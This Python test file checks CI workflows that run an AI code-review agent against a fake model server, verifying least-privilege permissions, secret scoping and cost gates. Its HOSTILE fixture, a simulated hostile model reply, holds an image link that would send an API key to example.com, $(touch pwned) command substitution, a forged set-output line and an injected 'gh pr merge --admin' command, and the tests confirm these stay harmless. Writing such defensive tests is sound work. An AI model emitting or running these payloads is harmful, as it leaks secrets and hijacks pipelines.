"""The workflows and jobs of configs/ run: with an answer, without one, and with one that wants to be more than text."""

from __future__ import annotations

import os
import re
import stat
from pathlib import Path
from xml.etree import ElementTree as Xml

import pytest
import yaml

from tests.support.docs_blocks import blocks
from tests.support.wire.plugin import OpenWire
from tests.support.wire.server import Answer, Fault, WireServer
from tests.support.workflows import gitlab
from tests.support.workflows.github import Job, fake_artifacts, fake_checkout
from tests.support.workflows.machines import (
    KEY,
    ROOT,
    installed,
    machine,
    model_environ,
    put_agentctl,
    put_command,
    repository,
)

CONFIGS = ROOT / "configs"
TOKEN = "ghs_0123456789abcdefghijABCDEFGHIJ012345"  # noqa: S105 - nobody's
HOSTILE = """\
Thanks! @everyone <img src="https://example.com/x.png"> ![x](https://example.com/$OPENAI_API_KEY)
```
$(touch pwned) `touch pwned` ````fence
````
::set-output name=answer::forged
"; gh pr merge 7 --admin; "
"""


@pytest.fixture
def server(wire: OpenWire) -> WireServer:
    return wire(Answer("app.py:1: it prints two.", input_tokens=1000, output_tokens=100), keys=[KEY], repeat=True)


def review(tmp_path: Path, server: WireServer, *, fork: bool = False) -> dict[str, Job]:
    """Run the review of a pull request; ``gh`` writes down what it is told."""
    source, base = repository(tmp_path / "project")
    folder = tmp_path / "machine"
    put_command(
        folder / "bin",
        "gh",
        f'env >{tmp_path}/gh.env; printf "%s\\n" "$@" >{tmp_path}/gh; cp comment.md {tmp_path}/comment.md',
    )
    head = {"repo": {"full_name": "stranger/project" if fork else "someone/project"}}
    place = machine(
        folder,
        server,
        secrets={"OPENAI_API_KEY": KEY, "GITHUB_TOKEN": TOKEN},
        event={"pull_request": {"number": 7, "base": {"sha": base}, "head": head}},
        event_name="pull_request",
        done={"install": {"folder": str(installed(tmp_path / "installed"))}},
    )
    place.actions |= {
        "actions/checkout": fake_checkout(source, place.workspace),
        "OWNER/agentctl": ROOT,
        **fake_artifacts(tmp_path / "artifacts", place.workspace),
    }
    return place.run(CONFIGS / "github-review.yml")


def test_review_is_written_by_a_job_that_ran_no_agent(tmp_path: Path, server: WireServer) -> None:
    jobs = review(tmp_path, server)
    assert {name: job.result for name, job in jobs.items()} == {"review": "success", "comment": "success"}, jobs
    assert (tmp_path / "gh").read_text().split() == [
        *("pr", "comment", "7", "--repo", "someone/project", "--body-file", "comment.md")
    ]
    comment = (tmp_path / "comment.md").read_text()
    assert "\n```text\napp.py:1: it prints two.\n" in comment
    assert re.match(r"run [0-9a-f]+, \$0\.\d+\n", comment)
    (asked,) = [one.asked for one in server.books.requests if one.asked is not None]
    assert "print('two')" in asked.messages[-1].text
    assert TOKEN not in jobs["review"].log
    assert f"GH_TOKEN={TOKEN}" in (tmp_path / "gh.env").read_text()
    assert KEY not in (tmp_path / "gh.env").read_text()
    assert "Remove agentctl" in [step.name for step in jobs["review"].step("Review").steps]


def test_review_that_is_hostile_is_a_comment_and_nothing_else(tmp_path: Path, server: WireServer) -> None:
    server.play(Answer(HOSTILE))
    jobs = review(tmp_path, server)
    assert jobs["comment"].result == "success"
    comment = (tmp_path / "comment.md").read_text().rstrip("\n")
    opening = next(line for line in comment.splitlines() if line.startswith("`"))
    fence = opening.removesuffix("text")
    assert (comment.endswith(f"\n{fence}"), len(fence)) == (True, 5)
    inside = comment.partition(opening)[2].removesuffix(fence)
    assert (fence in inside, "@everyone" in inside, "gh pr merge" in inside) == (False, True, True)
    assert not list(tmp_path.rglob("pwned"))
    assert "pr\ncomment" in (tmp_path / "gh").read_text()


@pytest.mark.parametrize("fork", [True, False])
def test_review_without_an_answer_writes_no_comment(tmp_path: Path, server: WireServer, fork: bool) -> None:
    server.play(Fault(401))
    jobs = review(tmp_path, server, fork=fork)
    expected = "skipped" if fork else "failure"
    assert {name: job.result for name, job in jobs.items()} == {"review": expected, "comment": "skipped"}
    assert not (tmp_path / "gh").exists()
    assert bool(server.books.requests) is not fork


def test_jobs_have_the_least_rights_and_the_agent_alone_has_the_key() -> None:
    document = yaml.safe_load((CONFIGS / "github-review.yml").read_text())
    assert document["permissions"] == {}
    rights = {name: job["permissions"] for name, job in document["jobs"].items()}
    assert rights == {"review": {"contents": "read"}, "comment": {"pull-requests": "write"}}
    held = {name: re.findall(r"secrets\.\w+|github\.token", str(job)) for name, job in document["jobs"].items()}
    assert held == {"review": ["secrets.OPENAI_API_KEY"], "comment": ["github.token"]}
    for name in ("github-review", "github-nightly"):
        jobs = yaml.safe_load((CONFIGS / f"{name}.yml").read_text())["jobs"]
        assert not any("env" in job for job in jobs.values())
        keyed = [step for job in jobs.values() for step in job["steps"] if "secrets." in str(step)]
        assert [step["name"] for step in keyed] == ["Review" if name == "github-review" else "Ask"]


def nightly(tmp_path: Path, server: WireServer, tasks: dict[str, str]) -> dict[str, Job]:
    """Run the nightly questions; pip is one that installs this checkout's agentctl."""
    source, folder = tmp_path / "project", tmp_path / "machine"
    (source / ".github" / "agent").mkdir(parents=True)
    for name, task in tasks.items():
        (source / ".github" / "agent" / name).write_text(task)
    put_agentctl(tmp_path / "shim")
    pip = f'cp {tmp_path}/shim/agentctl "$(dirname "$0")"; echo "$PWD $*" >>{tmp_path}/pip'
    put_command(tmp_path / "shim", "pip", pip)
    put_command(folder / "bin", "python3", f'mkdir -p "$3/bin"; cp {tmp_path}/shim/pip "$3/bin"')
    place = machine(folder, server, secrets={"OPENAI_API_KEY": KEY}, event_name="schedule")
    place.actions |= {
        "actions/checkout": fake_checkout(source, place.workspace),
        **fake_artifacts(tmp_path / "artifacts", place.workspace),
    }
    return place.run(CONFIGS / "github-nightly.yml")


def test_nightly_questions_are_asked_and_their_cost_is_below_the_gate(tmp_path: Path, server: WireServer) -> None:
    jobs = nightly(tmp_path, server, {"a.txt": "How is a?", "b.txt": "How is $(touch pwned)?"})
    assert jobs["ask"].result == "success", jobs["ask"].log
    assert (tmp_path / "artifacts" / "answers" / "answers.txt").read_text().count("it prints two") == 2
    assert not list(tmp_path.rglob("pwned"))
    installs = (tmp_path / "pip").read_text().splitlines()
    assert [line.split()[0].endswith("/.agentctl-source") for line in installs] == [True, True]
    assert "--require-hashes" in installs[0]


def test_nightly_gate_fails_above_its_sum_and_a_limit_ends_the_questions(tmp_path: Path, wire: OpenWire) -> None:
    costly = Answer("Dear.", input_tokens=9_000_000, output_tokens=100)  # more than the bound says: recorded in full
    server = wire(costly, keys=[KEY], repeat=True)
    jobs = nightly(tmp_path, server, {"a.txt": "How is a?", "b.txt": "How is b?"})
    steps = {step.name: step for step in jobs["ask"].steps}
    assert (jobs["ask"].result, steps["What it cost"].code) == ("failure", 3), steps["What it cost"].log
    assert steps["Ask"].code != 0
    assert steps["Keep the answers"].outcome == "success"


def merge_request(tmp_path: Path, server: WireServer, **environ: str) -> gitlab.Job:
    """Run the job of a merge request."""
    folder, base = repository(tmp_path / "project")
    put_agentctl(tmp_path / "bin")
    given = {
        "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
        "OPENAI_API_KEY": KEY,
        "CI_PIPELINE_SOURCE": "merge_request_event",
        "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
        "CI_MERGE_REQUEST_IID": "7",
        **model_environ(server),
        **environ,
    }
    return gitlab.run_job(CONFIGS / "gitlab-agent.yml", "agent", folder, given)


def test_gitlab_job_keeps_the_answer_and_its_reports(tmp_path: Path, server: WireServer) -> None:
    job = merge_request(tmp_path, server)
    assert (job.result, job.code) == ("success", 0), job.log
    assert set(job.kept) == {"answer.txt", "agent.xml", "agent.env"}
    assert job.kept["answer.txt"] == "app.py:1: it prints two.\n"
    assert job.variables["AGENT_STATUS"] == "done"
    suite = Xml.fromstring(job.kept["agent.xml"]).find("testsuite")  # noqa: S314 - our own
    assert suite is not None
    assert (suite.attrib["tests"], suite.attrib["failures"], suite.attrib["errors"]) == ("1", "0", "0")


@pytest.mark.parametrize(
    ("answer", "result", "status"),
    [(Fault(503), "warning", "unavailable"), (Fault(401), "failed", "auth")],
)
def test_gitlab_job_fails_for_what_is_its_own_fault_only(
    tmp_path: Path, server: WireServer, answer: Fault, result: str, status: str
) -> None:
    server.play(answer, repeat=True)
    job = merge_request(tmp_path, server)
    assert (job.result, job.variables["AGENT_STATUS"]) == (result, status), job.log
    assert job.kept["answer.txt"] == ""


def test_gitlab_job_runs_for_merge_requests_only(tmp_path: Path, server: WireServer) -> None:
    assert merge_request(tmp_path, server, CI_PIPELINE_SOURCE="push").result is None
    assert server.books.requests == ()


def test_action_of_docs_runs(tmp_path: Path, server: WireServer) -> None:
    (block,) = [one for one in blocks("yaml") if "OWNER/agentctl" in one.text]
    (tmp_path / "docs.yml").write_text(f"on: push\n{block.text}")
    source, _ = repository(tmp_path / "project")
    done = {"install": {"folder": str(installed(tmp_path / "installed"))}}
    place = machine(tmp_path / "machine", server, secrets={"OPENAI_API_KEY": KEY}, done=done)
    place.actions |= {"actions/checkout": fake_checkout(source, place.workspace), "OWNER/agentctl": ROOT}
    job = place.run(tmp_path / "docs.yml")["explain"]
    assert (job.result, job.step("Use the answer").log) == ("success", "app.py:1: it prints two.\n"), job.log


def test_scripts_can_be_run() -> None:
    assert all((CONFIGS / name).stat().st_mode & stat.S_IXUSR for name in ("ask.sh",))
